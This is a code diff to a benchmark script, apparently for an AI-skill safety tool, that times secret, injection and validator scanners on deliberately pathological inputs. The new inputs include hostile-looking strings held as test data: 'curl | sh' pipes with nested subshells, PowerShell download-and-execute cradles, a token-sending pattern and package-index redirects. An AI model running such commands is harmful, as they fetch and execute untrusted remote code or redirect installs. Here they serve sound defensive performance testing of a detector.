@@ -8,10 +8,12 @@ from __future__ import annotations
 
 import sys
 import time
+from collections.abc import Callable
 
 from skillforge.safety.injection import find_injections
 from skillforge.safety.paths import normalize_home_paths
 from skillforge.safety.redact import find_secrets
+from skillforge.skills.validate import check_text
 
 UNITS = [
     "a",
@@ -48,6 +50,25 @@ UNITS = [
 SCANNERS = {"secrets": find_secrets, "injection": find_injections, "home-paths": normalize_home_paths}
 
 
+def _nested(n: int) -> str:
+    return "```bash\ncurl x | " + "(a | " * n + "sh" + ")" * n + "\n```"
+
+
+# Shapes a reviewer found (2026-12-03), each 10-24 s at about 50 KB before its fix: one finding per repeat
+# with work per finding that grew with the line or the nesting. Scanned whole, by check_text.
+SHAPED: dict[str, Callable[[int], str]] = {
+    "send $token…": lambda n: "send $" + "token" * (n // 5),
+    "powershell cradles, fenced": lambda n: (
+        "```powershell\n" + "iex(iwr http://a.com) ; " * (n // 24) + "\n```"
+    ),
+    "powershell cradles, prose": lambda n: "iex(iwr http://a.com) ; " * (n // 24),
+    "nested subshells": lambda n: _nested(n // 8),
+    "one export, many settings": lambda n: (
+        "```bash\nexport " + "PIP_INDEX_URL=http://a/ " * (n // 24) + "\n```"
+    ),
+}
+
+
 def main() -> None:
     size = int(float(sys.argv[1]) * 1_000_000) if len(sys.argv) > 1 else 1_000_000
     worst: list[tuple[float, str, str]] = []
@@ -57,6 +78,11 @@ def main() -> None:
             start = time.perf_counter()
             scan(line)
             worst.append((time.perf_counter() - start, name, unit))
+    for label, build in SHAPED.items():
+        text = build(50_000)
+        start = time.perf_counter()
+        check_text(text, "shaped.md")
+        worst.append((time.perf_counter() - start, "check_text", f"{label} (50 KB)"))
     worst.sort(reverse=True)
     print(f"{len(UNITS)} near-miss lines of {size / 1e6:g} MB x {len(SCANNERS)} scanners; slowest:")
     for seconds, name, unit in worst[:8]:
